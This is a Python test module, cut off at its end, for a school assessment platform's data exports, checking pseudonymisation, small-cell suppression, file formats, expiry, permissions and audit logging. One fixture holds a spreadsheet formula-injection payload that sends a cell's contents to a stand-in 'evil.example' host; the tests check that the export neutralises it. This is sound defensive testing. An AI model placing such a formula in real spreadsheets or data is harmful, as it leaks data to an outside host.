"""Exports: scope, datasets, every file format read back, codebook, failure,
expiry, the command line and permissions."""

import csv
import io
import shutil
import subprocess
import time
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from freezegun import freeze_time
from wagtail.models import Locale

from assessments import exports
from assessments.export_forms import ExportForm
from assessments.exports import ExportScope, pseudonym
from assessments.models import Attempt, ExportJob, Item, Response
from assessments.services import attempt_save_answers, attempt_submit
from assessments.services_exports import (
    MAX_RUNS,
    export_job_create,
    export_job_run,
    export_jobs_expire,
    export_storage,
)
from audit.models import AuditAction, AuditEvent
from classes.models import Programme
from tests.factories import activate_mfa, make_class, make_evaluator, make_teacher

# Long Arabic text (about 2,700 characters, 5,000 bytes): longer than Stata's
# fixed strings, so it must survive as a strL. No trailing space: SPSS pads
# and strips trailing blanks of strings.
ARABIC = (
    "أخبرت معلمتي لأن الرسالة أخافتني، وهي ساعدتني على الحظر والإبلاغ. " * 40
).strip()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PRE = {
    "K01": "A",
    "K02": ["A"],
    "K03": "true",
    "A01": "2",
    "A02": "4",
    "P01": "2",
    "P02": "yes",
}
POST = {
    "K01": "B",
    "K02": ["A", "B"],
    "K03": "false",
    "A01": "5",
    "A02": "1",
    "P01": "4",
    "P02": "no",
}


def _take(learner, course, phase, answers, *, open_answer=None, language="en"):
    instrument = course.pre_test
    if language != "en":
        instrument = instrument.get_translation(Locale.objects.get(language_code="ar"))
    membership = learner.memberships.select_related("school_class__school").first()
    attempt = Attempt.objects.create(
        learner=learner,
        instrument=instrument,
        course=course,
        course_key=course.translation_key,
        phase=phase,
        locale=language,
        school_class=membership.school_class,
        school=membership.school_class.school,
    )
    items = {i.code: i for i in instrument.get_items()}
    attempt_save_answers(
        attempt=attempt, answers={items[k].pk: v for k, v in answers.items()}
    )
    if open_answer is not None:
        item = items["O01"]
        Response.objects.create(
            attempt=attempt,
            item=item,
            item_key=item.translation_key,
            value=open_answer,
        )
    return attempt_submit(attempt=attempt)


@pytest.fixture
def results(course):
    """Four learners in one class: three with pre and post, one pre only.

    The test has an open item (O01) and an Arabic translation; one answer is
    long Arabic text, one a spreadsheet formula. Another programme's school
    has a learner whose data must never appear.
    """
    instrument = course.pre_test
    instrument.for_children = False
    instrument.save()
    Item.objects.create(
        instrument=instrument,
        code="O01",
        domain="P",
        item_type="open",
        required=False,
        text="What did you do the last time something online worried you?",
        sort_order=20,
        locale=instrument.locale,
    )
    arabic = Locale.objects.get(language_code="ar")
    translated = type(instrument).objects.create(
        code=instrument.code,
        title="اختبار المعلومات الشخصية",
        translation_key=instrument.translation_key,
        locale=arabic,
        for_children=False,
    )
    for item in instrument.get_items():
        copy = Item(
            instrument=translated,
            translation_key=item.translation_key,
            locale=arabic,
            code=item.code,
            domain=item.domain,
            subscale=item.subscale,
            item_type=item.item_type,
            text=f"(ar) {item.code}: ما رأيك؟",
            options=[
                {"type": "option", "value": {**o, "text": f"خيار {o['key']}"}}
                for o in item.option_list()
            ],
            answer_true=item.answer_true,
            reverse_coded=item.reverse_coded,
            required=item.required,
            sort_order=item.sort_order,
        )
        copy.save()
    teacher = make_teacher()
    school_class = make_class(teacher=teacher, learners=4, course=course, prefix="p")
    school = school_class.school
    school.region = "Nairobi"
    school.save()
    learners = [m.learner for m in school_class.memberships.order_by("learner_id")]
    for n, learner in enumerate(learners):
        _take(
            learner,
            course,
            "pre",
            PRE,
            open_answer=ARABIC if n == 0 else FORMULA if n == 1 else None,
        )
        if n < 3:
            _take(learner, course, "post", POST, language="ar" if n == 2 else "en")
    other = Programme.objects.create(name="Other programme", slug="other")
    other_class = make_class(
        teacher=teacher,
        programme=other,
        school_name="Other school",
        learners=1,
        course=course,
        prefix="o",
    )
    _take(other_class.memberships.get().learner, course, "pre", PRE)
    programme = school.programme
    return {
        "programme": programme,
        "school_class": school_class,
        "learners": learners,
        "evaluator": make_evaluator("evaluator", programme),
        "other": other,
    }


def _run(results, dataset="responses_long", file_format="csv", **params):
    job = export_job_create(
        user=results["evaluator"],
        programme=results["programme"],
        dataset=dataset,
        file_format=file_format,
        params=params,
        enqueue=False,
    )
    job = export_job_run(job_id=job.pk)
    assert job.status == "done", job.error
    return job


def _path(name: str) -> Path:
    return Path(export_storage().path(name))


def _csv(job) -> list[list[str]]:
    text = _path(job.file_name).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


class TestPseudonym:
    def test_stable_per_key_and_different_between_programmes(self):
        first = pseudonym(key="programme-a", learner_id=42)
        assert first == pseudonym(key="programme-a", learner_id=42)
        assert first != pseudonym(key="programme-b", learner_id=42)
        assert len(first) == 16
        assert int(first, 16) >= 0  # hexadecimal, not the id


class TestVariableCodes:
    def test_integer_variables_keep_their_values_in_spss_and_stata(self):
        matched = exports.Variable(
            "matched", "Both", kind=exports.INTEGER, values=(("0", "No"), ("1", "Yes"))
        )
        assert matched.numeric_codes() == {"0": 0, "1": 1}
        assert exports.GENDER.numeric_codes() == {"f": 1, "m": 2, "x": 3}

    def test_age_band_never_reveals_the_age(self):
        assert exports.age_band(2015, 2026) == "10-12"
        assert exports.age_band(1990, 2026) == "25+"
        assert exports.age_band(None, 2026) == ""


@pytest.mark.django_db
class TestExportForm:
    def test_rejects_a_school_of_another_programme(self, results):
        other_school = results["other"].schools.get()
        form = ExportForm(
            {"programme": results["programme"].pk, "school": other_school.pk},
            user=results["evaluator"],
        )
        assert not form.is_valid()
        assert "school" in form.errors

    def test_offers_only_the_users_programmes(self, results):
        form = ExportForm({"programme": results["other"].pk}, user=results["evaluator"])
        assert not form.is_valid()
        assert "programme" in form.errors

    def test_rejects_reversed_dates_and_phase_on_wide(self, results):
        form = ExportForm(
            {
                "programme": results["programme"].pk,
                "dataset": "prepost_wide",
                "phase": "pre",
                "date_from": "2026-05-02",
                "date_to": "2026-05-01",
            },
            user=results["evaluator"],
        )
        assert not form.is_valid()
        assert set(form.errors) == {"phase", "date_to"}

    def test_scope_keeps_every_filter(self, results):
        school_class = results["school_class"]
        form = ExportForm(
            {
                "programme": results["programme"].pk,
                "dataset": "aggregate",
                "file_format": "dta",
                "country": "KE",
                "region": "Nairobi",
                "school": school_class.school.pk,
                "school_class": school_class.pk,
                "language": "ar",
                "date_from": "2026-01-01",
                "demographics": "on",
                "group_by": "class",
            },
            user=results["evaluator"],
        )
        assert form.is_valid(), form.errors
        scope = form.scope()
        assert scope.class_id == school_class.pk
        assert scope.region == "Nairobi"
        assert scope.demographics is True
        assert scope.date_from == "2026-01-01"
        assert ExportScope.from_params(scope.programme_id, scope.as_params()) == scope


@pytest.mark.django_db
class TestResponsesLong:
    def test_pseudonymous_rows_of_the_programme_only(self, results):
        job = _run(results)
        rows = _csv(job)
        header = rows[0]
        assert header == [
            "learner",
            "course",
            "instrument",
            "phase",
            "language",
            "source",
            "submitted_on",
            "item",
            "domain",
            "subscale",
            "item_type",
            "value",
            "score",
            "status",
            "form_version",
        ]
        assert {row[-2] for row in rows[1:]} == {"answered"}  # no skip logic
        assert {row[-1] for row in rows[1:]} == {""}  # no form version
        # 4 pre (8 items, 2 with an open answer = 30) + 3 post (7 items each)
        assert len(rows) - 1 == job.rows_done == 4 * 7 + 2 + 3 * 7
        key = results["programme"].pseudonym_key
        expected = {pseudonym(key=key, learner_id=p.pk) for p in results["learners"]}
        assert {row[0] for row in rows[1:]} == expected
        body = _path(job.file_name).read_text(encoding="utf-8")
        for learner in results["learners"]:
            assert learner.username not in body
            assert "2015" not in body
        assert "Other school" not in body
        assert "School A" not in body

    def test_same_pseudonyms_in_a_second_export(self, results):
        first = {row[0] for row in _csv(_run(results))[1:]}
        second = {row[0] for row in _csv(_run(results))[1:]}
        assert first == second

    def test_scope_filters_phase_and_language(self, results):
        rows = _csv(_run(results, phase="post", language="ar"))
        assert {(r[3], r[4]) for r in rows[1:]} == {("post", "ar")}
        assert len(rows) - 1 == 7

    def test_scope_filters_survey_wave(self, results):
        from classes.models import SurveyWave

        today = timezone.localdate()
        SurveyWave.objects.create(
            programme=results["programme"],
            code="2026-r1",
            name="Round 1",
            starts_on=today - timedelta(days=5),
            ends_on=today + timedelta(days=5),
        )
        SurveyWave.objects.create(
            programme=results["programme"],
            code="2025-r1",
            name="Last year",
            starts_on=today - timedelta(days=400),
            ends_on=today - timedelta(days=300),
        )
        # The three post-tests belong to last year's round (as if taken then).
        Attempt.objects.filter(phase="post").update(
            survey_wave=SurveyWave.objects.get(code="2025-r1")
        )
        from classes.services import survey_waves_stamp

        assert survey_waves_stamp(programme=results["programme"]) == 4
        rows = _csv(_run(results, survey_wave="2026-r1"))
        assert {r[3] for r in rows[1:]} == {"pre"}
        assert len(rows) - 1 == 4 * 7 + 2
        form = ExportForm(
            {"programme": results["programme"].pk, "survey_wave": "nope"},
            user=results["evaluator"],
        )
        assert not form.is_valid() and "survey_wave" in form.errors
        form = ExportForm(
            {"programme": results["programme"].pk, "survey_wave": "2025-r1"},
            user=results["evaluator"],
        )
        assert form.is_valid(), form.errors
        assert form.scope().survey_wave == "2025-r1"

    def test_demographics_are_gender_and_age_band_only(self, results):
        rows = _csv(_run(results, demographics=True))
        assert rows[0][:3] == ["learner", "gender", "age_band"]
        assert {r[2] for r in rows[1:]} == {"10-12"}
        assert {r[1] for r in rows[1:]} == {"f", "m"}


@pytest.mark.django_db
class TestPrePostWide:
    def test_one_row_per_learner_with_domain_scores_gains_and_items(self, results):
        rows = _csv(_run(results, dataset="prepost_wide"))
        header = rows[0]
        for column in ("K_pre", "K_post", "K_gain", "K01_pre", "K01_post", "O01_pre"):
            assert column in header
        assert len(rows) - 1 == 4
        data = [dict(zip(header, row, strict=True)) for row in rows[1:]]
        matched = [d for d in data if d["matched"] == "1"]
        assert len(matched) == 3
        for row in matched:
            assert float(row["K_pre"]) == 0.0
            assert float(row["K_post"]) == 100.0
            assert float(row["K_gain"]) == 100.0
            assert row["K01_pre"] == "0.0" and row["K01_post"] == "1.0"
            assert row["A02_post"] == "1.0"  # reverse coded: "1" scores 1
        unmatched = next(d for d in data if d["matched"] == "0")
        assert unmatched["K_post"] == "" and unmatched["K_gain"] == ""
        assert {d["language_post"] for d in matched} == {"en", "ar"}


@pytest.mark.django_db
def test_gains_and_means_come_from_unrounded_scores(course, settings):
    """1 of 3 knowledge questions right, then 2 of 3: the scores are 33.33 and
    66.67, the gain 33.33 (66.67 - 33.33 would say 33.34)."""
    settings.SMALL_CELL_THRESHOLD = 1
    school_class = make_class(teacher=make_teacher(), learners=1, course=course)
    learner = school_class.memberships.get().learner
    pre = _take(learner, course, "pre", {**PRE, "K01": "B"})
    post = _take(learner, course, "post", {**PRE, "K01": "B", "K02": ["A", "B"]})
    assert (pre.scores["domains"]["K"], post.scores["domains"]["K"]) == (
        {"score": 33.33, "n_items": 3},
        {"score": 66.67, "n_items": 3},
    )
    scope = ExportScope(programme_id=school_class.school.programme_id)
    key = school_class.school.programme.pseudonym_key
    data = exports.build_dataset("prepost_wide", scope, programme_key=key, threshold=1)
    names = [v.name for v in data.variables]
    (row,) = [dict(zip(names, row, strict=True)) for row in data.rows]
    assert (row["K_pre"], row["K_post"], row["K_gain"]) == (33.33, 66.67, 33.33)
    data = exports.build_dataset("aggregate", scope, programme_key=key, threshold=1)
    names = [v.name for v in data.variables]
    (cell,) = [dict(zip(names, row, strict=True)) for row in data.rows]
    assert (cell["K_pre_mean"], cell["K_post_mean"], cell["K_gain_mean"]) == (
        33.33,
        66.67,
        33.33,
    )
    # An answer rescored after hand-in no longer gives the stored score: the
    # stored (shown) post-test score is used, 66.67 - 33.333... = 33.34.
    Response.objects.filter(attempt=post, item__code="K02").update(score=0.0)
    data = exports.build_dataset("prepost_wide", scope, programme_key=key, threshold=1)
    names = [v.name for v in data.variables]
    (row,) = [dict(zip(names, row, strict=True)) for row in data.rows]
    assert (row["K_post"], row["K_gain"]) == (66.67, 33.34)


@pytest.mark.django_db
class TestAggregate:
    def test_small_groups_are_suppressed(self, results, settings):
        settings.SMALL_CELL_THRESHOLD = 3
        rows = _csv(_run(results, dataset="aggregate", group_by="school"))
        header = rows[0]
        data = [dict(zip(header, row, strict=True)) for row in rows[1:]]
        assert len(data) == 1
        assert data[0]["n_matched"] == "3" and data[0]["suppressed"] == "0"
        assert data[0]["n_pre"] == "4"
        assert float(data[0]["K_gain_mean"]) == 100.0

        settings.SMALL_CELL_THRESHOLD = 4
        rows = _csv(_run(results, dataset="aggregate", demographics=True))
        data = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
        assert data, "groups are listed even when hidden"
        for row in data:
            assert row["suppressed"] == "1"
            assert row["n_pre"] == row["n_matched"] == row["K_pre_mean"] == ""
            assert row["group"] == "School A"

    def test_a_hidden_cell_never_stands_alone_in_its_line(self, results, settings):
        # 3 matched learners: by gender 2 and 1 (or 1 and 2). With k = 2 the
        # single learner's cell is hidden, and since the school's total (3)
        # is in the export grouped without demographics, the other gender's
        # cell must be hidden too, although it has k learners.
        settings.SMALL_CELL_THRESHOLD = 2
        rows = _csv(_run(results, dataset="aggregate", demographics=True))
        data = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
        with_post = [row for row in data if row["gender"] in ("f", "m")]
        assert len(with_post) == 2
        assert {row["suppressed"] for row in with_post} == {"1"}


@pytest.mark.django_db
class TestFileFormats:
    def test_csv_for_excel_has_a_bom_and_neutralised_formulas(self, results):
        job = _run(results, file_format="csv_excel")
        raw = _path(job.file_name).read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        rows = _csv(job)
        values = [row[rows[0].index("value")] for row in rows[1:]]
        assert "'" + FORMULA in values
        assert FORMULA not in values
        assert ARABIC in values

    def test_xlsx_has_data_and_codebook_sheets(self, results):
        import openpyxl

        job = _run(results, dataset="prepost_wide", file_format="xlsx")
        assert job.file_name.endswith(".xlsx")
        book = openpyxl.load_workbook(_path(job.file_name), read_only=True)
        assert book.sheetnames == ["data", "codebook"]
        data = list(book["data"].iter_rows(values_only=True))
        header = data[0]
        open_answers = [row[header.index("O01_pre")] for row in data[1:]]
        assert ARABIC in open_answers
        assert "'" + FORMULA in open_answers
        assert row_types_numeric(data, header.index("K_gain"))
        codebook = list(book["codebook"].iter_rows(values_only=True))
        names = [row[0] for row in codebook[1:]]
        assert names[: len(header)] == list(header)
        by_name = {row[0]: dict(zip(codebook[0], row, strict=True)) for row in codebook}
        assert by_name["A02_pre"]["reverse_coded"] == "yes"
        assert by_name["A02_pre"]["domain"] == "A"
        assert by_name["K01_pre"]["wording_en"].startswith("Which is personal")
        assert "ما رأيك" in by_name["K01_pre"]["wording_ar"]
        book.close()

    def test_spss_file_has_variable_and_value_labels(self, results):
        import pyreadstat

        job = _run(results, file_format="sav", demographics=True)
        frame, meta = pyreadstat.read_sav(str(_path(job.file_name)))
        assert len(frame) == job.rows_done == 51
        labels = meta.column_names_to_labels
        assert labels["learner"].startswith("Learner pseudonym")
        assert meta.variable_value_labels["gender"] == {
            1.0: "Girl / woman",
            2.0: "Boy / man",
            3.0: "Another way",
        }
        assert meta.variable_value_labels["phase"][1.0] == "Pre-test"
        assert ARABIC in set(frame["value"])
        assert FORMULA in set(frame["value"]), "no quote prefix outside spreadsheets"

    def test_spss_file_built_in_chunks_equals_one_chunk(self, results, monkeypatch):
        import pyreadstat

        whole = _run(results, file_format="sav", demographics=True)
        monkeypatch.setattr(exports, "FRAME_CHUNK", 7)  # 51 rows: 8 chunks
        chunked = _run(results, file_format="sav", demographics=True)
        first, _meta = pyreadstat.read_sav(str(_path(whole.file_name)))
        second, _meta = pyreadstat.read_sav(str(_path(chunked.file_name)))
        assert first.equals(second)
        assert len(second) == 51

    def test_too_large_for_spss_fails_early_with_advice(self, results, settings):
        settings.EXPORT_SPSS_STATA_MAX_CELLS = 100
        job = export_job_create(
            user=results["evaluator"],
            programme=results["programme"],
            file_format="dta",
            enqueue=False,
        )
        job = export_job_run(job_id=job.pk)
        assert job.status == "failed"
        assert "Export CSV instead" in job.error
        assert not job.file_name

    def test_stata_file_read_by_pandas_with_labels(self, results):
        import pandas as pd

        job = _run(results, dataset="prepost_wide", file_format="dta")
        path = _path(job.file_name)
        with pd.io.stata.StataReader(path) as reader:
            frame = reader.read(convert_categoricals=True)
            variable_labels = reader.variable_labels()
        assert len(frame) == 4
        assert variable_labels["K_gain"] == "Knowledge gain (post - pre)"
        assert set(frame["matched"].astype(str)) == {"Yes", "No"}
        assert ARABIC in set(frame["O01_pre"])
        assert frame["K_gain"].dropna().tolist() == [100.0, 100.0, 100.0]

    @pytest.mark.skipif(
        shutil.which("pspp") is None,
        reason="pspp is not installed (Debian package `pspp`)",
    )
    def test_spss_file_opens_in_pspp_with_labels(self, results, tmp_path):
        job = _run(results, file_format="sav")
        syntax = tmp_path / "check.sps"
        syntax.write_text(
            f"GET FILE='{_path(job.file_name)}'.\nDISPLAY DICTIONARY.\n"
            "FREQUENCIES VARIABLES=phase.\n",
            encoding="utf-8",
        )
        report = tmp_path / "report.csv"
        subprocess.run(
            ["pspp", str(syntax), "-o", str(report)],
            capture_output=True,
            timeout=120,
            check=True,
        )
        rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8"))))
        variables = {row[0]: row[2] for row in rows if len(row) > 2}
        assert variables["learner"].startswith("Learner pseudonym")
        assert variables["score"].startswith("Item score 0-1")
        value_labels = {row[2] for row in rows if len(row) == 3}
        assert {"Pre-test", "Post-test"} <= value_labels
        counts = {
            label: [row for row in rows if label in row and count in row]
            for label, count in (("Pre-test", "30"), ("Post-test", "21"))
        }
        assert all(counts.values()), "PSPP counted the labelled phases"

    def test_codebook_file_is_downloadable(self, client, results):
        job = _run(results)
        client.force_login(results["evaluator"])
        response = client.get(reverse("assessments:export_codebook", args=[job.pk]))
        assert response.status_code == 200
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(body)))
        assert rows[0][:4] == ["variable", "label", "type", "values"]
        assert "wording_ar" in rows[0]
        names = [row[0] for row in rows[1:]]
        assert names[:3] == ["learner", "course", "instrument"]
        assert "item=K01" in names and "item=O01" in names


def row_types_numeric(data, column) -> bool:
    values = [row[column] for row in data[1:] if row[column] is not None]
    return bool(values) and all(isinstance(v, int | float) for v in values)


@pytest.mark.django_db
class TestFailureAndRetry:
    def test_generator_failure_leaves_a_failed_job_and_no_file(
        self, client, results, monkeypatch
    ):
        real = exports.build_dataset

        def breaking(*args, **kwargs):
            data = real(*args, **kwargs)
            inner = data.rows

            def rows():
                # The logged traceback keeps this frame, and ``inner`` with it,
                # until the test ends; close the database cursor now, as the
                # real row stream does when it stops.
                try:
                    for n, row in enumerate(inner):
                        if n == 5:
                            raise RuntimeError("database connection lost")
                        yield row
                finally:
                    inner.close()

            data.rows = rows()
            return data

        monkeypatch.setattr(exports, "build_dataset", breaking)
        job = export_job_create(
            user=results["evaluator"],
            programme=results["programme"],
            file_format="xlsx",
            enqueue=False,
        )
        job = export_job_run(job_id=job.pk)
        assert job.status == "failed"
        assert "database connection lost" in job.error
        assert job.file_name == "" and job.sha256 == ""
        folder = Path(settings.STORAGES["exports"]["OPTIONS"]["location"]) / str(job.pk)
        assert not folder.exists() or not any(folder.iterdir())
        client.force_login(results["evaluator"])
        url = reverse("assessments:export_download", args=[job.pk])
        assert client.get(url).status_code == 404
        detail = client.get(reverse("assessments:export_detail", args=[job.pk]))
        assert "No file was kept" in detail.content.decode()

    def test_a_job_retried_too_often_is_failed_with_a_clear_message(self, results):
        job = export_job_create(
            user=results["evaluator"], programme=results["programme"], enqueue=False
        )
        ExportJob.objects.filter(pk=job.pk).update(status="running", runs=MAX_RUNS)
        job = export_job_run(job_id=job.pk)
        assert job.status == "failed"
        assert "stopped before it finished" in job.error

    def test_a_retried_job_rebuilds_the_whole_file(self, results):
        job = export_job_create(
            user=results["evaluator"], programme=results["programme"], enqueue=False
        )
        half = export_storage().save(f"{job.pk}/partial.csv", io.BytesIO(b"learner,"))
        ExportJob.objects.filter(pk=job.pk).update(status="running", runs=1)
        job = export_job_run(job_id=job.pk)
        assert job.status == "done"
        assert not export_storage().exists(half)
        assert len(_csv(job)) - 1 == job.rows_done == 51


@pytest.mark.django_db
class TestExpiry:
    def test_beat_task_deletes_expired_files(self, client, results):
        from assessments.tasks import export_jobs_expire as expire_task

        job = _run(results)
        path = _path(job.file_name)
        assert path.exists()
        url = reverse("assessments:export_download", args=[job.pk])
        days = settings.EXPORT_EXPIRY_DAYS
        with freeze_time(timezone.now() + timedelta(days=days) - timedelta(hours=1)):
            assert expire_task.delay().get() == {
                "expired": 0,
                "stalled": 0,
                "deleted": 0,
            }
            client.force_login(results["evaluator"])
            assert client.get(url).status_code == 200
        with freeze_time(timezone.now() + timedelta(days=days, hours=1)):
            client.force_login(results["evaluator"])
            assert client.get(url).status_code == 404
            assert expire_task.delay().get() == {
                "expired": 1,
                "stalled": 0,
                "deleted": 0,
            }
        job.refresh_from_db()
        assert job.status == "expired"
        assert not path.exists()
        assert not _path(job.codebook_file_name).exists()
        assert job.sha256, "the audit record keeps its checksum"

    def test_stalled_job_is_marked_failed(self, results):
        job = export_job_create(
            user=results["evaluator"], programme=results["programme"], enqueue=False
        )
        ExportJob.objects.filter(pk=job.pk).update(status="running")
        later = timezone.now() + timedelta(minutes=settings.EXPORT_STALE_MINUTES + 1)
        assert export_jobs_expire(now=later) == {
            "expired": 0,
            "stalled": 1,
            "deleted": 0,
        }
        job.refresh_from_db()
        assert job.status == "failed"
        assert "No file was kept" in job.error

    def test_a_queued_job_waits_longer_than_a_running_one(self, results):
        """Queued jobs may wait behind others; a running one beats every
        30 s, so minutes without a heartbeat mean its worker is gone."""
        queued = export_job_create(
            user=results["evaluator"], programme=results["programme"], enqueue=False
        )
        minutes = settings.EXPORT_STALE_MINUTES + 1
        assert minutes < settings.EXPORT_QUEUED_STALE_MINUTES
        later = timezone.now() + timedelta(minutes=minutes)
        assert export_jobs_expire(now=later)["stalled"] == 0
        queued.refresh_from_db()
        assert queued.status == "queued"
        much_later = timezone.now() + timedelta(
            minutes=settings.EXPORT_QUEUED_STALE_MINUTES + 1
        )
        assert export_jobs_expire(now=much_later)["stalled"] == 1

    def test_the_beat_task_runs_every_few_minutes(self):
        entry = settings.CELERY_BEAT_SCHEDULE["exports-expire"]
        assert entry["schedule"] <= 60 * settings.EXPORT_STALE_MINUTES

    def test_old_expired_and_failed_job_rows_are_deleted_audit_kept(self, results):
        done = _run(results)
        failed = export_job_create(
            user=results["evaluator"], programme=results["programme"], enqueue=False
        )
        ExportJob.objects.filter(pk=failed.pk).update(
            status="failed", finished_at=timezone.now()
        )
        keep = settings.EXPORT_JOB_RETENTION_DAYS
        expiry = settings.EXPORT_EXPIRY_DAYS
        soon = timezone.now() + timedelta(days=expiry, hours=1)
        assert export_jobs_expire(now=soon)["expired"] == 1
        assert ExportJob.objects.count() == 2  # kept while within retention
        later = timezone.now() + timedelta(days=expiry + keep, hours=2)
        assert export_jobs_expire(now=later) == {
            "expired": 0,
            "stalled": 0,
            "deleted": 2,
        }
        assert not ExportJob.objects.exists()
        assert not export_storage().exists(done.file_name)
        requested = AuditEvent.objects.filter(action=AuditAction.EXPORT_REQUESTED)
        assert {e.target_id for e in requested} == {str(done.pk), str(failed.pk)}

    def test_beat_schedule_runs_the_expiry_task(self):
        entry = settings.CELERY_BEAT_SCHEDULE["exports-expire"]
        assert entry["task"] == "assessments.export_jobs_expire"


@pytest.mark.django_db
class TestExportCommand:
    def test_command_writes_the_file_through_the_audited_service(
        self, results, tmp_path
    ):
        output = tmp_path / "wide.dta"
        out = io.StringIO()
        call_command(
            "export_results",
            "--programme",
            results["programme"].slug,
            "--user",
            "evaluator",
            "--dataset",
            "prepost_wide",
            "--format",
            "dta",
            "--course",
            "mini-course",
            "--school",
            str(results["school_class"].school.pk),
            "--output",
            str(output),
            stdout=out,
        )
        job = ExportJob.objects.get()
        assert job.origin == "command"
        assert job.requested_by == results["evaluator"]
        assert job.params["school_id"] == results["school_class"].school.pk
        assert job.rows_done == 4
        assert job.sha256 in out.getvalue()
        import hashlib

        assert hashlib.sha256(output.read_bytes()).hexdigest() == job.sha256
        events = list(AuditEvent.objects.filter(target_id=str(job.pk)).order_by("id"))
        assert [e.action for e in events] == [
            AuditAction.EXPORT_REQUESTED,
            AuditAction.EXPORT_DOWNLOADED,
        ]
        assert events[0].details["origin"] == "command"
        assert events[1].details | {"channel": "command", "part": "data"} == (
            events[1].details
        )
        assert events[1].actor_id == results["evaluator"].pk

    def test_command_refuses_a_scope_outside_the_programme(self, results):
        from django.core.management.base import CommandError

        with pytest.raises(CommandError, match="school"):
            call_command(
                "export_results",
                "--programme",
                results["programme"].slug,
                "--user",
                "evaluator",
                "--school",
                str(results["other"].schools.get().pk),
            )
        assert ExportJob.objects.count() == 0


@pytest.mark.django_db
class TestExportPage:
    def test_page_shows_the_form_and_rejects_bad_scope(self, client, results):
        client.force_login(results["evaluator"])
        page = client.get(reverse("assessments:export_list"))
        content = page.content.decode()
        assert 'name="school_class"' in content and "<fieldset" in content
        assert "Other programme" not in content
        results["other"].staff.add(results["evaluator"])
        response = client.post(
            reverse("assessments:export_create"),
            {
                "programme": results["programme"].pk,
                "school": results["other"].schools.get().pk,
            },
        )
        assert response.status_code == 400
        assert "not in the chosen programme" in response.content.decode()
        assert ExportJob.objects.count() == 0

    def test_files_are_not_under_a_public_url(self, client, results):
        job = _run(results)
        assert settings.STORAGES["exports"]["OPTIONS"]["base_url"] is None
        exports_root = str(settings.STORAGES["exports"]["OPTIONS"]["location"])
        assert not exports_root.startswith(str(settings.MEDIA_ROOT))
        assert not exports_root.startswith(str(settings.STATIC_ROOT))
        client.logout()
        url = reverse("assessments:export_download", args=[job.pk])
        assert client.get(url).status_code == 302  # to the login page
        teacher = results["school_class"].teachers.get()
        client.force_login(teacher)
        assert client.get(url).status_code == 403

    def test_staff_who_left_the_programme_lose_access(self, client, results):
        job = _run(results)
        client.force_login(results["evaluator"])
        url = reverse("assessments:export_download", args=[job.pk])
        assert client.get(url).status_code == 200
        results["programme"].staff.remove(results["evaluator"])
        assert client.get(url).status_code == 403


@pytest.mark.django_db
class TestExportAudit:
    def test_each_export_is_one_complete_audit_record(self, results):
        job = _run(results, dataset="aggregate", file_format="xlsx", country="KE")
        assert ExportJob.objects.count() == 1
        assert job.requested_by == results["evaluator"]
        assert job.params["country"] == "KE"
        assert (job.dataset, job.file_format, job.origin) == (
            "aggregate",
            "xlsx",
            "web",
        )
        assert job.created_at <= job.finished_at
        import hashlib

        digest = hashlib.sha256(_path(job.file_name).read_bytes()).hexdigest()
        assert job.sha256 == digest

    def test_request_and_each_download_are_in_the_audit_log(self, client, results):
        client.force_login(results["evaluator"])
        response = client.post(
            reverse("assessments:export_create"),
            {
                "programme": results["programme"].pk,
                "dataset": "responses_long",
                "file_format": "csv",
                "country": "KE",
            },
        )
        assert response.status_code == 302
        job = ExportJob.objects.get()
        requested = AuditEvent.objects.get(action=AuditAction.EXPORT_REQUESTED)
        assert requested.actor_id == results["evaluator"].pk
        assert (requested.target_type, requested.target_id) == (
            "assessments.exportjob",
            str(job.pk),
        )
        assert requested.details["programme_id"] == results["programme"].pk
        assert requested.details["origin"] == "web"
        assert requested.details["scope"]["country"] == "KE"
        job = export_job_run(job_id=job.pk)
        assert not AuditEvent.objects.filter(
            action=AuditAction.EXPORT_DOWNLOADED
        ).exists()
        data = client.get(reverse("assessments:export_download", args=[job.pk]))
        assert data.status_code == 200
        b"".join(data.streaming_content)
        codebook = client.get(reverse("assessments:export_codebook", args=[job.pk]))
        assert codebook.status_code == 200
        downloads = AuditEvent.objects.filter(
            action=AuditAction.EXPORT_DOWNLOADED
        ).order_by("id")
        assert [e.details["part"] for e in downloads] == ["data", "codebook"]
        assert {e.details["channel"] for e in downloads} == {"web"}
        assert downloads[0].details["rows"] == job.rows_done
        assert downloads[0].details["sha256"] == job.sha256
        assert "username" not in str([e.details for e in downloads])

    def test_a_refused_download_is_not_logged_as_one(self, client, results):
        job = _run(results)
        client.force_login(results["school_class"].teachers.get())
        url = reverse("assessments:export_download", args=[job.pk])
        assert client.get(url).status_code == 403
        assert not AuditEvent.objects.filter(
            action=AuditAction.EXPORT_DOWNLOADED
        ).exists()

    def test_site_admins_see_the_log_in_the_wagtail_admin(self, client, results):
        from django.contrib.auth import get_user_model

        job = _run(results)
        url = reverse("assessments_export_audit")
        client.force_login(results["evaluator"])
        assert client.get(url).status_code in (302, 403)
        admin = get_user_model().objects.create_superuser("root", "root@example.org")
        activate_mfa(admin)
        client.force_login(admin)
        response = client.get(url)
        assert response.status_code == 200
        content = response.content.decode()
        assert job.sha256 in content
        assert "evaluator" in content


@pytest.mark.django_db
class TestPostgresCopy:
    """On PostgreSQL the long CSV comes from COPY: it must be the very file the
    Python row generator writes (pseudonyms, formulas, Arabic, CRLF)."""

    @pytest.fixture(autouse=True)
    def postgres_only(self):
        from django.db import connection

        if connection.vendor != "postgresql":
            pytest.skip("COPY path: run with DATABASE_URL set to PostgreSQL")

    def _both(self, results, *, demographics: bool, bom: bool) -> tuple[bytes, bytes]:
        scope = ExportScope(
            programme_id=results["programme"].pk, demographics=demographics
        )
        key = results["programme"].pseudonym_key
        files = []
        for use_copy in (True, False):
            data = exports.build_dataset(
                "responses_long", scope, programme_key=key, threshold=10
            )
            assert data.copy_csv is not None
            if not use_copy:
                data.copy_csv = None
            seen: list[int] = []
            raw = io.BytesIO()
            rows = exports.write_csv_file(data, raw, bom=bom, on_row=seen.append)
            assert rows == data.total == len(seen) == seen[-1]
            files.append(raw.getvalue())
        return files[0], files[1]

    @pytest.mark.parametrize("demographics", [False, True])
